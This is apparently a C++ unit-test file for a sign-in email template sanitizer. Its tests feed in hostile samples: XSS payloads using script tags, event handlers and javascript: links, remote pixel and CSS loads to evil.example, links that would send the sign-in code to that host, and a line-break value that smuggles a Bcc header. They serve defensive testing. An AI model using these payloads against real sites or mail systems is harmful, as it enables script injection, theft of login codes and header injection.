#include "signin/branding/mail_template.h"

#include <gtest/gtest.h>

#include "signin/branding/mail_style.h"

namespace latchkey::signin {
namespace {

const MailValues k_values{.code = "01234567",
                          .app_name = "Tom & <Jerry>",
                          .email = "a@example.com",
                          .logo_uri = "https://auth.pds.test/brand/logo?client_id=x&y",
                          .is_new_user = false};

std::string rendered(std::string_view html, MailValues values = k_values) {
  const auto t = MailTemplate::parse(html);
  return t ? t->render(values) : "refused: " + t.error();
}
// What becomes of markup beside the code.
std::string cleaned(std::string_view markup) {
  const std::string page = rendered("<body><div>{{code}}</div>" + std::string(markup) + "</body>");
  const std::string before = "<div>01234567</div>", after = "</body></html>\n";
  const auto at = page.find(before);
  if (at == std::string::npos || !page.ends_with(after)) return page;
  return page.substr(at + before.size(), page.size() - after.size() - at - before.size());
}
bool shows(std::string_view text, std::string_view part) { return text.find(part) != std::string_view::npos; }

TEST(MailTemplate, FillsInEscapedValues) {
  const std::string page = rendered(
      "<html lang=\"ja\"><body style=\"background:#fff\"><h1>{{ app_name }}</h1><p>{{code}} for "
      "{{email}}</p></body></html>");
  EXPECT_EQ(
      page,
      "<!doctype html><html lang=\"ja\"><head><meta charset=\"utf-8\">"
      "<meta name=\"viewport\" content=\"width=device-width, initial-scale=1\"></head>"
      "<body style=\"background:#fff\"><h1>Tom &amp; &lt;Jerry&gt;</h1><p>01234567 for a@example.com</p>"
      "</body></html>\n");
}

TEST(MailTemplate, SectionsTellNewPeopleFromOthers) {
  const std::string html =
      "<table>{{#is_new_user}}<tr><td>Welcome {{code}}</td></tr>{{/is_new_user}}"
      "{{^is_new_user}}<tr><td>Hello again {{code}}</td></tr>{{/is_new_user}}</table>";
  MailValues fresh = k_values;
  fresh.is_new_user = true;
  EXPECT_TRUE(shows(rendered(html, fresh), "<table><tr><td>Welcome 01234567</td></tr></table>"));
  EXPECT_TRUE(shows(rendered(html), "<table><tr><td>Hello again 01234567</td></tr></table>"));
}

TEST(MailTemplate, WantsTheCodeForEverybody) {
  EXPECT_EQ(rendered("<p>no code</p>"), "refused: it does not show {{code}}");
  EXPECT_EQ(rendered("{{#is_new_user}}{{code}}{{/is_new_user}}"), "refused: it does not show {{code}}");
  EXPECT_EQ(rendered("<!-- {{code}} --><p>x</p>"), "refused: it does not show {{code}}")
      << "a comment is not shown";
  EXPECT_EQ(rendered("<script>{{code}}</script>"), "refused: it does not show {{code}}");
  EXPECT_EQ(rendered("<a href=\"https://evil.example/{{code}}\">x</a>"),
            "refused: it does not show {{code}}");
}

TEST(MailTemplate, NothingElseOfMustache) {
  for (const char* bad :
       {"{{code}}{{{app_name}}}", "{{code}}{{&app_name}}", "{{code}}{{> partial}}", "{{code}}{{=<% %>=}}",
        "{{code}}{{!comment}}", "{{code}}{{password}}", "{{code}}{{#other}}{{/other}}", "{{code}}{{}}",
        "{{code}}{{code", "{{code}}{{#is_new_user}}", "{{code}}{{/is_new_user}}",
        "{{code}}{{#is_new_user}}{{^is_new_user}}{{/is_new_user}}{{/is_new_user}}"})
    EXPECT_TRUE(rendered(bad).starts_with("refused: it has ")) << bad;
}

TEST(MailTemplate, HasLimitsOnBothSides) {
  const std::string full = "{{code}}" + std::string(k_max_mail_template - 8, 'x');
  EXPECT_TRUE(MailTemplate::parse(full).has_value());
  EXPECT_FALSE(MailTemplate::parse(full + "x").has_value());

  const auto nested = [](std::size_t depth) {
    std::string html = "{{code}}";
    for (std::size_t i = 0; i < depth; ++i) html += "<div>";
    return html + "x";
  };
  // The parser puts what stands outside of a block into a <p>.
  EXPECT_TRUE(MailTemplate::parse(nested(k_max_markup_depth - 2)).has_value());
  EXPECT_FALSE(MailTemplate::parse(nested(k_max_markup_depth + 1)).has_value());

  const auto many = [](std::size_t count) {
    std::string html = "<div>{{code}}</div>";
    for (std::size_t i = 0; i < count; ++i) html += "<br>";
    return html;
  };
  EXPECT_TRUE(MailTemplate::parse(many(k_max_markup_elements - 10)).has_value());
  EXPECT_FALSE(MailTemplate::parse(many(k_max_markup_elements + 1)).has_value());
}

TEST(MailTemplate, AttackTemplate_TenThousandAttributes) {
  const auto with = [](std::size_t count, std::string_view attribute) {
    std::string html = "<div>{{code}}</div><p";
    for (std::size_t i = 0; i < count; ++i) html += attribute;
    return MailTemplate::parse(html + ">x</p>").has_value();
  };
  for (const char* attribute : {" a", " a=1", " a = 1", " a='>'", " a=\">\"", "\na=\" b c \"", "/a"}) {
    EXPECT_TRUE(with(k_max_markup_attributes, attribute)) << attribute;
    EXPECT_FALSE(with(k_max_markup_attributes + 1, attribute)) << attribute;
  }
  EXPECT_FALSE(with(k_max_markup_attributes + 2, "a=\"1\"")) << "nothing between them";
  std::string words = "<p>{{code}} 1 < 2";
  for (int i = 0; i < 100; ++i) words += " and";
  EXPECT_TRUE(MailTemplate::parse(words + "</p>").has_value()) << "no element";
}

// HTML5's tree has each <b> again in every <p>: a million elements of 10 KB.
TEST(MailTemplate, AttackTemplate_OverlappingElementsDoNotMultiply) {
  std::string html = "<div>{{code}}</div>";
  for (int i = 0; i < 1400; ++i) html += "<b><p>";
  EXPECT_LT(rendered(html).size(), 4 * html.size());
}

TEST(MailTemplate, AttackTemplate_Scripts) {
  for (const char* evil : {"<script>alert(1)</script>",
                           "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
                           "<scr<script>ipt>alert(1)</script>",
                           "<img src=x onerror=alert(1)>",
                           "<p onclick=\"alert(1)\">x</p>",
                           "<body onload=alert(1)>",
                           "<svg onload=alert(1)><script>alert(1)</script></svg>",
                           "<math><mtext><script>alert(1)</script></mtext></math>",
                           "<a href=\"javascript:alert(1)\">x</a>",
                           "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
                           "<a href=\"java&#10;script:alert(1)\">x</a>",
                           "<a href=\"javascript&colon;alert(1)\">x</a>",
                           "<a href=\" javascript:alert(1)\">x</a>",
                           "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
                           "<a href=\"vbscript:alert(1)\">x</a>",
                           "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
                           "<style><img src=\"</style><img src=x onerror=alert(1)>\"></style>",
                           "<template><script>alert(1)</script></template>",
                           "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                           "<object data=\"javascript:alert(1)\"></object>",
                           "<embed src=\"javascript:alert(1)\">",
                           "<xmp><script>alert(1)</script></xmp>",
                           "<plaintext><script>alert(1)</script>",
                           "<title><script>alert(1)</script></title>",
                           "<textarea><script>alert(1)</script></textarea>",
                           "<!--><script>alert(1)</script>-->"}) {
    const std::string out = cleaned(evil);
    for (const char* sign : {"<script", "onerror=", "onclick=", "onload=", "javascript:", "vbscript:", "href",
                             "<svg", "<math", "<iframe", "<object", "<embed", "<style", "<img", "srcdoc"})
      EXPECT_FALSE(shows(out, sign) && !shows(out, "&lt;")) << evil << "\n" << out;
    EXPECT_FALSE(shows(out, "<script")) << out;
  }
}

TEST(MailTemplate, AttackTemplate_RemotePixelsAndOtherLoads) {
  for (const char* evil :
       {"<img src=\"https://evil.example/pixel.gif\">",
        "<img src=\"http://evil.example/{{email}}\">",
        "<img src=\"//evil.example/x\">",
        "<img src=\"{{logo_uri}}?x\">",
        "<img srcset=\"https://evil.example/x 1x\">",
        "<img src=\"cid:x\">",
        "<img src=\"data:image/png;base64,AA\">",
        "<picture><source srcset=\"https://evil.example/x\"></picture>",
        "<div style=\"background:url(https://evil.example/x)\">x</div>",
        "<div style=\"background-image:url('https://evil.example/x')\">x</div>",
        "<div style=\"background:u\\72l(https://evil.example/x)\">x</div>",
        "<div style=\"background:/**/url(https://evil.example/x)\">x</div>",
        "<div style=\"background:image-set('https://evil.example/x' 1x)\">x</div>",
        "<td background=\"https://evil.example/x\">x</td>",
        "<table background=\"https://evil.example/x\"></table>",
        "<link rel=stylesheet href=\"https://evil.example/x.css\">",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
        "<base href=\"https://evil.example/\">",
        "<video poster=\"https://evil.example/x\"></video>",
        "<audio src=\"https://evil.example/x\"></audio>",
        "<input type=image src=\"https://evil.example/x\">",
        "<blockquote cite=\"https://evil.example/x\">x</blockquote>",
        "<p style=\"background-color:red;list-style-image:url(https://evil.example)\">x</p>"})
    EXPECT_FALSE(shows(cleaned(evil), "evil")) << evil << "\n" << cleaned(evil);
  EXPECT_EQ(cleaned("<div><img src=\"https://evil.example/x\" alt=\"A <picture>\"></div>"),
            "<div>A &lt;picture&gt;</div>")
      << "what the image stands for stays";
}

TEST(MailTemplate, AttackTemplate_FormsGoTheirTextStays) {
  EXPECT_EQ(
      cleaned("<form action=\"https://evil.example/\"><div>Type it:</div><input name=code><button>Go</button>"
              "<select><option>x</select></form>"),
      "<div>Type it:</div>");
}

TEST(MailTemplate, AttackTemplate_TheCodeGoesIntoNoLink) {
  EXPECT_EQ(cleaned("<a href=\"https://evil.example/?c={{code}}\">x</a>"), "<a>x</a>");
  EXPECT_EQ(cleaned("<a href=\"https://evil.example/?c={&#123;code}}\">x</a>"), "<a>x</a>");
  EXPECT_EQ(cleaned("<a href=\"mailto:evil@evil.example?subject={{code}}\">x</a>"), "<a>x</a>");
  EXPECT_EQ(cleaned("<a href=\"https://app.example/help\" title=\"{{code}}\">x</a>"),
            "<a href=\"https://app.example/help\" title=\"{{code}}\">x</a>");
}

TEST(MailTemplate, AttackTemplate_ValuesAreNotReadAgain) {
  MailValues values = k_values;
  values.app_name = "{{code}}<script>{{email}}";
  EXPECT_TRUE(shows(rendered("<p>{{app_name}}</p><p>{{code}}</p>", values),
                    "<p>{{code}}&lt;script&gt;{{email}}</p><p>01234567</p>"));
}

TEST(MailTemplate, LinksAreHttpsOrMail) {
  EXPECT_EQ(cleaned("<a href=\"https://app.example/a?b=1&amp;c=2\">x</a>"),
            "<a href=\"https://app.example/a?b=1&amp;c=2\">x</a>");
  EXPECT_EQ(cleaned("<a href=\"mailto:help@app.example\">x</a>"),
            "<a href=\"mailto:help@app.example\">x</a>");
  for (const char* bad :
       {"http://app.example/", "https://app.example@evil.example/", "/relative", "ftp://app.example/"})
    EXPECT_EQ(cleaned("<a href=\"" + std::string(bad) + "\">x</a>"), "<a>x</a>") << bad;
}

TEST(MailTemplate, TheLogoIsTheOneImage) {
  const std::string html =
      "<div><img src=\"{{logo_uri}}\" alt=\"{{app_name}}\" width=\"48\" onerror=\"x\"></div>";
  EXPECT_EQ(
      cleaned(html),
      "<div><img src=\"https://auth.pds.test/brand/logo?client_id=x&amp;y\" alt=\"Tom &amp; &lt;Jerry&gt;\" "
      "width=\"48\"></div>");
  MailValues without = k_values;
  without.logo_uri = "";
  EXPECT_TRUE(shows(rendered("<p>{{code}}</p>" + html, without), "<div></div>")) << "no logo, no image";
}

TEST(MailTemplate, WhatIsOpenIsClosedAndWhatIsNotOpenIsNotClosed) {
  EXPECT_EQ(cleaned("<div><b>x"), "<div><b>x</b></div>");
  EXPECT_EQ(cleaned("<div>x</td></table></div>"), "<div>x</div>");
}

TEST(MailTemplate, AttackTemplate_NotUtf8) {
  EXPECT_FALSE(MailTemplate::parse("{{code}}\xff\xfe").has_value());
  EXPECT_FALSE(MailTemplate::parse(std::string("{{code}}\0x", 10)).has_value());
  EXPECT_FALSE(MailTemplate::parse("\x1f\x8b\x08 gzip").has_value()) << "a body that is still compressed";
  EXPECT_TRUE(shows(rendered("<meta charset=\"utf-7\"><p>{{code}} +ADw-script+AD4- \xc3\xa9</p>"),
                    "+ADw-script+AD4- \xc3\xa9"))
      << "always UTF-8, whatever it says";
}

TEST(MailStyle, KeepsLooksAndNothingElse) {
  EXPECT_EQ(clean_style("color: #FFF ; font-family: 'Segoe UI', Arial;; MARGIN:0 auto !important"),
            "color:#FFF;font-family:'Segoe UI', Arial;margin:0 auto !important");
  EXPECT_EQ(clean_style("background: rgba(0, 0, 0, .5); font: 16px/1.5 Arial"),
            "background:rgba(0, 0, 0, .5);font:16px/1.5 Arial");
  for (const char* bad : {"position:fixed",
                          "position : absolute",
                          "behavior:url(x)",
                          "-moz-binding:url(x)",
                          "color:expression(alert(1))",
                          "width:expression (1)",
                          "background:url(x)",
                          "background:\\75rl(x)",
                          "color:red/**/",
                          "content:'x'",
                          "z-index:9",
                          "--x:url(x)",
                          "width:calc(1px)",
                          "color:var(--x)",
                          "font-family:'a",
                          "font-family:'a<b'",
                          "color:rgb(1,2,3",
                          "color:)",
                          "color",
                          ":red",
                          "@import 'x'",
                          "filter:blur(1px)",
                          "transform:none",
                          "background:red}body{color:red"})
    EXPECT_EQ(clean_style(bad), "") << bad;
  EXPECT_EQ(clean_style("color:" + std::string(200, 'a')).size(), 206u);
  EXPECT_EQ(clean_style("color:" + std::string(201, 'a')), "");
}

TEST(SubjectTemplate, FillsInValuesAsTheyAre) {
  const auto t = SubjectTemplate::parse(
      "{{#is_new_user}}Welcome{{/is_new_user}}{{^is_new_user}}Hi{{/is_new_user}}: {{code}} for {{app_name}}");
  ASSERT_TRUE(t.has_value());
  EXPECT_EQ(t->render(k_values), "Hi: 01234567 for Tom & <Jerry>");
  EXPECT_FALSE(SubjectTemplate::parse("{{{code}}}").has_value());
  EXPECT_FALSE(SubjectTemplate::parse("{{other}}").has_value());
}

TEST(SubjectTemplate, AttackSubject_LineBreaksStartNoHeader) {
  MailValues values = k_values;
  values.app_name = "x\r\nBcc: all@example.com\n{{code}}";
  EXPECT_EQ(SubjectTemplate::parse("For {{app_name}}\r\nX: y")->render(values),
            "For x Bcc: all@example.com {{code}} X: y");
}

}  // namespace
}  // namespace latchkey::signin
